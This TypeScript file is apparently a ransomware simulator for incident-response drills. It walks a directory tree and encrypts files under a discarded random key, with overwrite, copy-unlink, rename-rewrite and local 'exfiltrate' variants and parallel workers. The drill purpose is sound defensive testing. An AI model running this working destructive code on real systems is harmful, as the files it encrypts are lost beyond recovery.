/**
 * A ransomware simulator of our own, for drills: walks a tree in the order readdir returns and encrypts each
 * file (AES-256-CTR from node:crypto), logging each path BEFORE touching it, so that the log is an upper bound
 * of what was lost. Run as its own process:
 *   node simulator.js --root DIR --log FILE --variant VARIANT [--rate FILES_PER_SECOND] [--workers N]
 * Variants: overwrite (in place), copy-unlink (encrypted copy, then unlink), rename-rewrite (rename to .locked,
 * then rewrite), exfiltrate (read, write the encrypted copy elsewhere; the original is untouched).
 */
import {fork} from 'node:child_process'
import {createCipheriv, randomBytes} from 'node:crypto'
import {appendFileSync, closeSync, existsSync, openSync, readFileSync, renameSync, unlinkSync, writeFileSync, writeSync, lstatSync, mkdirSync} from 'node:fs'
import {join} from 'node:path'

import {readdirOrder} from '../../src/core/plan/readdir-order.js'

type Variant = 'overwrite' | 'copy-unlink' | 'rename-rewrite' | 'exfiltrate'

function argument(name: string, fallback?: string): string {
  const index = process.argv.indexOf(`--${name}`)
  if (index < 0 || index + 1 >= process.argv.length) {
    if (fallback === undefined) throw new Error(`--${name} is required`)
    return fallback
  }
  return process.argv[index + 1]
}

const root = argument('root')
const logFile = argument('log')
const variant = argument('variant') as Variant
const rate = Number(argument('rate', '0'))
const workers = Number(argument('workers', '1'))
const shard = Number(argument('shard', '0'))
const loot = argument('loot', join(root, '..', 'loot'))
const startSignal = argument('wait-for', '')
const key = randomBytes(32)

/** Depth first, in readdir order, files of a directory before its sub-directories: what most encryptors do. */
function* walk(directory: string): Generator<string> {
  const names = readdirOrder(directory)
  const subdirectories: string[] = []
  for (const name of names) {
    const path = join(directory, name)
    const stats = lstatSync(path, {throwIfNoEntry: false})
    if (stats?.isDirectory()) subdirectories.push(path)
    else if (stats?.isFile()) yield path
  }
  for (const subdirectory of subdirectories) yield* walk(subdirectory)
}

function encrypt(content: Buffer): Buffer {
  const cipher = createCipheriv('aes-256-ctr', key, randomBytes(16))
  return Buffer.concat([cipher.update(content), cipher.final()])
}

function attack(path: string): void {
  switch (variant) {
    case 'overwrite': {
      const ciphertext = encrypt(readFileSync(path))
      const fd = openSync(path, 'r+')
      writeSync(fd, ciphertext, 0, ciphertext.length, 0)
      closeSync(fd)
      break
    }
    case 'copy-unlink':
      writeFileSync(`${path}.enc`, encrypt(readFileSync(path)))
      unlinkSync(path)
      break
    case 'rename-rewrite':
      renameSync(path, `${path}.locked`)
      writeFileSync(`${path}.locked`, encrypt(readFileSync(`${path}.locked`)))
      break
    case 'exfiltrate':
      writeFileSync(join(loot, `${process.pid}-${Math.random().toString(36).slice(2)}`), encrypt(readFileSync(path)))
      break
  }
}

function sleepSync(ms: number): void {
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms)
}

if (workers > 1 && !process.argv.includes('--shard')) {
  // Four parallel workers: each takes every fourth file of the same walk.
  for (let index = 0; index < workers; index++) fork(process.argv[1], [...process.argv.slice(2), '--shard', String(index)], {stdio: 'inherit'})
} else {
  // The drill records this process group before the attack starts, so that the fencing procedure can stop it.
  while (startSignal && !existsSync(startSignal)) sleepSync(1)
  if (variant === 'exfiltrate') mkdirSync(loot, {recursive: true})
  const interval = rate > 0 ? (1000 / rate) * workers : 0
  let next = Date.now()
  let index = 0
  for (const path of walk(root)) {
    if (index++ % workers !== shard) continue
    if (interval > 0) {
      const wait = next - Date.now()
      if (wait > 0) sleepSync(wait)
      next += interval
    }
    appendFileSync(logFile, `${path}\n`)
    try {
      attack(path)
    } catch {}
  }
}
